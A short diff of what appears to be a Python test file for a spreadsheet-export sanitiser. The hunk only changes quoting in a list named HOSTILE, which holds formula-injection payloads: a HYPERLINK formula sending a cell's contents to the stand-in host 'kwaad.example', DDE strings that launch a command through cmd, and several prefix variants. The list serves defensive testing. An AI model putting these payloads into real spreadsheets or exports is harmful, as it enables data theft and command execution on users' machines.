@@ -15,7 +15,7 @@ from search_app.cells import FORMULA_STARTS, spreadsheet_safe
 from .helpers import close_app, data_dir_with, document, ordinary
 
 HOSTILE = [
-    ("=HYPERLINK(\"http://kwaad.example/?\"&A1,\"klik\")", "=cmd|' /C calc'!A0"),
+    ('=HYPERLINK("http://kwaad.example/?"&A1,"klik")', "=cmd|' /C calc'!A0"),
     ("+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)"),
     ("-2+3+cmd|' /C calc'!A0", "\t=1+1"),
     ("\r=1+1 jeugdraad", "-1 jeugdraad"),
